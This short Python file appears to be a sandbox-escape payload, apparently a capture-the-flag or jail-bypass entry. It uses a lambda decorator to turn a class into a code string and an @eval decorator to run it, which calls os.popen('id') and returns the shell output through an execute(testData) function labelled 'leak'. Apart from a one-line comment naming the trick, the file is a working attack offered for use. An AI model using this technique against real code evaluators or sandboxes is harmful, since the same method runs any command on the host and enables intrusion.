# route: a class as text, by decorators of lambdas
@eval
@(lambda cls: "__import__('os').popen('id').read()")
class leaked:
    pass


def execute(testData):
    return {"leak": leaked}
